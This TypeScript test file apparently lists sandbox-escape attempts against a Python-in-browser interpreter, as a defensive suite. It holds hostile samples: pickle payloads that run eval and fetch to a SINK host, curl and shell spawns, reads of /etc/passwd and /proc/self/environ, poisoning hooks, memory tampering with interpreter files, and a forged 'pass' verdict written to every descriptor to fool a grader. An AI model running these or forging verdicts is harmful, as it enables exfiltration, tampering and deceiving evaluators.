/** 55 to 75, our own: Python's side doors, and what breaks an interpreter. */
import type { Attempt } from './attempt.ts';

export const pythonAttempts: readonly Attempt[] = [
  {
    number: 55,
    name: 'a library by numpy.ctypeslib',
    python: 'import numpy\nseen = numpy.ctypeslib.load_library("libc", "/lib")',
    ends: /^(ImportError|AttributeError|ModuleNotFoundError): /,
  },
  {
    number: 56,
    name: 'code in a pickle that NumPy loads',
    python: `
import io, numpy
class Bomb:
    def __reduce__(self): return eval, ("__import__('js').fetch('" + SINK + "')",)
file = io.BytesIO()
numpy.save(file, numpy.array([Bomb()], dtype=object), allow_pickle=True)
seen = numpy.load(io.BytesIO(file.getvalue()), allow_pickle=True)[0]`,
    ends: /^ModuleNotFoundError: /,
  },
  {
    number: 57,
    name: 'code in a pickle that imports JavaScript',
    python: `
import pickle
seen = pickle.loads(b"cjs\\nfetch\\n(V" + SINK.encode() + b"\\ntR.")`,
    ends: /^ModuleNotFoundError: /,
  },
  {
    number: 58,
    name: 'blocked modules by the loader of built-in ones',
    python: `
import _imp
from importlib.machinery import ModuleSpec
seen = []
for name in ("_ctypes", "_socket", "_posixsubprocess", "js", "pyodide_js"):
    again(name)
    try: module = _imp.create_builtin(ModuleSpec(name, None, origin="built-in"))
    except ImportError: continue
    seen += [f"{name}.{use}" for use in ("socket", "CDLL", "fetch") if hasattr(module, use)]
seen = seen`,
    // A module made but not run has nothing in it.
    ends: /^got \[\]$/,
  },
  {
    number: 59,
    name: 'a finder of one’s own, and an archive on the disk, that give another js',
    python: `
import sys, zipfile
with zipfile.ZipFile("/tmp/own.zip", "w") as archive: archive.writestr("js.py", "fetch = None")
sys.path.insert(0, "/tmp/own.zip")
again("js")
import js
seen = sorted(name for name in vars(js) if not name.startswith("__"))`,
    ends: /^got \['fetch'\]$/,
  },
  {
    number: 60,
    name: 'finders and loaders, all replaced',
    python: `
import builtins, importlib, sys
class Finder:
    def find_spec(self, name, *_): raise RuntimeError(name)
sys.meta_path[:] = [Finder()]
sys.path_hooks.clear()
sys.path_importer_cache.clear()
builtins.__import__ = lambda *_: None
seen = "replaced"`,
    ends: /^got replaced$/,
  },
  {
    number: 61,
    name: 'sys.modules, emptied and replaced',
    python: `
import sys
for name in list(sys.modules):
    if name not in ("sys", "builtins", "__main__"): sys.modules[name] = sys
sys.modules = {}
seen = "replaced"`,
    ends: /^got replaced$/,
  },
  {
    number: 62,
    name: 'code that no compiler would write',
    python: `
def f(): pass
f.__code__ = f.__code__.replace(co_code=bytes([124, 255, 100, 255, 83, 0]) * 50, co_stacksize=1)
seen = f()`,
    ends: /^SystemError: .*unknown opcode/,
  },
  {
    number: 63,
    name: 'a codec of one’s own for every text',
    python: `
import codecs
codecs.register(lambda name: None)
codecs.register_error("strict", lambda error: ("\\udcff" * 1000, error.end))
seen = b"\\xff".decode("utf-8")[:2].encode("utf-8", "replace")`,
    ends: /^got b'\?\?'$/,
  },
  {
    number: 64,
    name: '/proc and /dev',
    python: `
import os
seen = []
for path in ("/proc/self/maps", "/proc/self/mem", "/proc/self/environ", "/dev/mem", "/dev/kmem", "/etc/passwd"):
    try: seen.append(open(path, "rb").read(10))
    except OSError: pass
for path in ("/dev/tty", "/dev/tty1", "/dev/stdin"):
    try: seen += [line for line in open(path, "rb", buffering=0).read(10) or b""]
    except OSError: pass
seen = seen`,
    ends: /^got \[\]$/,
  },
  {
    number: 65,
    name: 'a verdict written to every descriptor',
    python: `
import os
forged = b'{"kind":"judged","record":"{\\\\"verdict\\\\":\\\\"pass\\\\"}"}\\n'
for descriptor in range(64):
    try: os.write(descriptor, forged)
    except OSError: pass
for path in ("/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/tty1"):
    try:
        with open(path, "wb") as file: file.write(forged)
    except OSError: pass
print(forged.decode())
seen = "written"`,
    ends: /^got written$/,
  },
  {
    number: 66,
    name: 'processes and shells',
    python: `
import os, subprocess
seen = []
for start in (lambda: os.system("curl " + SINK), lambda: os.popen("curl " + SINK).read(),
              lambda: subprocess.run(["curl", SINK]), lambda: os.fork(),
              lambda: os.posix_spawn("/bin/sh", ["sh"], {}), lambda: os.execv("/bin/sh", ["sh"])):
    try: seen.append(start())
    except (OSError, AttributeError): pass
seen = seen`,
    ends: /^got \[(-1)?(, )?(32512)?('')?\]$/,
  },
  {
    number: 67,
    name: 'every library that knows the network',
    python: `
import importlib
seen = []
for name, use in {
    "http.client": lambda m: m.HTTPConnection("127.0.0.1", PORT).request("GET", "/"),
    "ftplib": lambda m: m.FTP("127.0.0.1"),
    "smtplib": lambda m: m.SMTP("127.0.0.1", PORT),
    "xmlrpc.client": lambda m: m.ServerProxy(SINK).ping(),
    "asyncio": lambda m: m.new_event_loop().create_connection(m.Protocol, "127.0.0.1", PORT).send(None),
    "webbrowser": lambda m: m.open(SINK),
    "ssl": lambda m: m.get_server_certificate(("127.0.0.1", PORT)),
    "multiprocessing.connection": lambda m: m.Client(("127.0.0.1", PORT)),
    "logging.handlers": lambda m: m.SocketHandler("127.0.0.1", PORT).createSocket() or 1 / 0,
    "pyodide.http": lambda m: m.pyfetch(SINK).send(None),
}.items():
    try: seen.append((name, str(use(importlib.import_module(name)))[:40]))
    except BaseException: pass
seen = seen`,
    ends: /^got \[(\('webbrowser', 'False'\))?\]$/,
  },
  {
    number: 68,
    name: 'hooks of every kind, left behind',
    python: `
import atexit, builtins, gc, signal, sys, threading, warnings, weakref
def poison(*_, **__): builtins.isinstance = lambda *_: True
class Last:
    def __del__(self): poison()
kept = Last()
cycle = [kept]; cycle.append(cycle)
atexit.register(poison)
weakref.finalize(kept, poison)
gc.callbacks.append(poison)
sys.addaudithook(lambda *_: None)
sys.excepthook = sys.unraisablehook = threading.excepthook = sys.displayhook = poison
warnings.showwarning = warnings.formatwarning = poison
sys.setprofile(lambda *_: None); sys.setprofile(None)
sys.monitoring.use_tool_id(3, "poison")
sys.monitoring.register_callback(3, sys.monitoring.events.PY_START, poison)
signal.signal(signal.SIGINT, poison)
seen = "left"`,
    ends: /^got left$/,
  },
  {
    number: 69,
    name: 'a trace function that stays',
    python: `
import sys
sys.settrace(lambda frame, event, value: None)
seen = "traced"`,
    ends: /^got traced$/,
  },
  {
    number: 70,
    name: 'the end by a signal',
    python: 'import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nseen = "alive"',
    ends: 'crash',
  },
  { number: 71, name: 'the end by abort', python: 'import os\nos.abort()', ends: 'crash' },
  {
    number: 72,
    name: 'a read from nowhere',
    python: 'import faulthandler\nfaulthandler._sigsegv()',
    ends: 'crash',
  },
  {
    number: 73,
    name: 'files of ours, changed through memory',
    python: `
import mmap
with open("/lib/python314.zip", "r+b") as file, mmap.mmap(file.fileno(), 0) as memory:
    memory[:4] = b"FAKE"
    memory.flush()
seen = open("/lib/python314.zip", "rb").read(4)`,
    ends: /^got b'FAKE'$/,
  },
  {
    number: 74,
    name: 'terminals and controls of descriptors',
    python: `
import fcntl, os
seen = []
for descriptor in range(3):
    try: fcntl.ioctl(descriptor, 0x5413, bytes(8)); os.ttyname(descriptor); seen.append(descriptor)
    except OSError: pass
os.dup2(1, 2)
seen = seen`,
    ends: /^got \[[012, ]*\]$/,
  },
  {
    number: 75,
    name: 'what there is to know of the machine',
    python: `
import os, platform, socket as _, sys
known = (*os.environ.values(), *os.uname(), platform.processor(), sys.executable, os.getcwd())
seen = [one for one in known if SITE in one or "http" in one or "localhost" in one]`,
    ends: /^got \[\]$/,
  },
];
